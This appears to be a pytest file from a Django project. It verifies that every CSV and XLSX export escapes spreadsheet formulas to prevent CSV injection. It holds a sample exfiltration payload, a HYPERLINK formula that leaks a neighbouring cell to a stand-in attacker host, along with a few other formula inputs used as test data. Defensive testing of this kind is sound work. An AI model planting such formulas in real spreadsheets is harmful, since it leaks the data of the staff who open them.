"""No formula reaches a spreadsheet (issue 11, item 12).

A member who sets their name to a formula must not get a live formula into staff's exports:
every CSV and XLSX export (import-export's resources and the hand-written ones) escapes a cell
that begins with = + - @ tab or carriage return (OWASP "CSV injection": prefix a single quote).
"""

import csv
import inspect
import io
from datetime import date

import openpyxl
import pytest
from django.conf import settings
from import_export import resources

import accounts.resources
import contributions.resources
import engagements.resources
from accounts.spreadsheets import FORMULA_TRIGGERS, FormulaSafeResource, formula_safe
from contributions.models import Certificate
from tests.factories import MACertificationFactory, ProgramYearFactory, UserFactory
from tests.helpers import with_mfa

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_formula_safe_escapes_every_trigger(trigger):
    assert formula_safe(f"{trigger}1+1") == f"'{trigger}1+1"


def test_formula_safe_keeps_plain_text_numbers_and_dates():
    assert formula_safe("Ava Patel") == "Ava Patel"
    assert formula_safe(-5) == -5
    assert formula_safe(400) == 400
    assert formula_safe(date(2026, 1, 1)) == date(2026, 1, 1)
    assert formula_safe(None) is None


def test_import_export_escapes_formulae_on_export_too():
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True


def test_every_project_resource_is_formula_safe():
    found = [
        cls
        for module in (accounts.resources, contributions.resources, engagements.resources)
        for _name, cls in inspect.getmembers(module, inspect.isclass)
        # defined in the module, or in a module of it when it is a package (contributions.resources)
        if issubclass(cls, resources.Resource) and f"{cls.__module__}.".startswith(f"{module.__name__}.")
    ]
    assert {cls.__module__.split(".")[0] for cls in found} == {"accounts", "contributions", "engagements"}
    assert [cls.__name__ for cls in found if not issubclass(cls, FormulaSafeResource)] == []


@pytest.fixture
def evil_member(db):
    member = UserFactory(email="mallory@example.com", first_name=EVIL, last_name="+SUM(1,2)")
    MACertificationFactory(user=member, qualified_on=date(2020, 1, 1))
    return member


def _no_formula_in_xlsx(content: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)):
                    cells.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return cells


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_program_year_report_exports_escape_formulae(client, evil_member, program_admin):
    year = ProgramYearFactory(year=2026)
    client.force_login(with_mfa(program_admin))
    url = f"/admin/contributions/programyear/{year.pk}/report/"
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response.content)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    assert _no_formula_in_xlsx(response.content) == []


def test_the_year_end_review_exports_escape_formulae(client, evil_member, program_admin):
    year = ProgramYearFactory(year=2026)
    client.force_login(with_mfa(program_admin))
    url = f"/admin/contributions/programyear/{year.pk}/review/"
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response.content)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert _no_formula_in_xlsx(client.get(url, {"export": "xlsx"}).content) == []


def test_the_certificate_export_of_the_admin_escapes_formulae(client, evil_member, admin_user):
    year = ProgramYearFactory(year=2025)
    Certificate.objects.create(
        member=evil_member,
        program_year=year,
        year=2026,
        number="MA-2026-900666",
        valid_from=date(2026, 1, 1),
        valid_until=date(2026, 12, 31),
        revoked_reason="-1 day",
    )
    client.force_login(admin_user)
    for file_format, check in (("0", "csv"), ("1", "xlsx")):
        form = client.get("/admin/contributions/certificate/export/").context["form"]
        choices = dict(form.fields["format"].choices)
        index = next(key for key, label in choices.items() if str(label).lower() == check)
        data = {"format": index, "resource": "0"}
        data.update({name: "on" for name in form.fields if name.startswith("certificateresource_")})
        response = client.post("/admin/contributions/certificate/export/", data)
        assert response.status_code == 200, file_format
        if check == "csv":
            cells = _csv_cells(response.content)
            assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
            assert "'-1 day" in cells
        else:
            assert _no_formula_in_xlsx(response.content) == []


def test_the_import_error_report_escapes_formulae(client, admin_user):
    """The bad rows of an MA import come back to staff as a CSV: a formula in the file stays text."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    lines = [
        "email,first_name,last_name,certificate_number,qualified_on,organization",
        f'not-an-email,"{EVIL.replace(chr(34), chr(34) * 2)}",@SUM(A1),MA-9001,2026-02-01,',
    ]
    upload = SimpleUploadedFile("evil.csv", ("\n".join(lines) + "\n").encode(), content_type="text/csv")
    client.force_login(admin_user)
    preview = client.post(
        "/admin/accounts/macertification/import/", {"resource": "0", "format": "0", "import_file": upload}
    )
    report_form = preview.context["error_report_form"]
    report = client.post(
        "/admin/accounts/macertification/import/error-report/",
        {name: report_form.initial.get(name, "") for name in report_form.fields},
    )
    cells = _csv_cells(report.content)
    assert "'" + EVIL in cells and "'@SUM(A1)" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
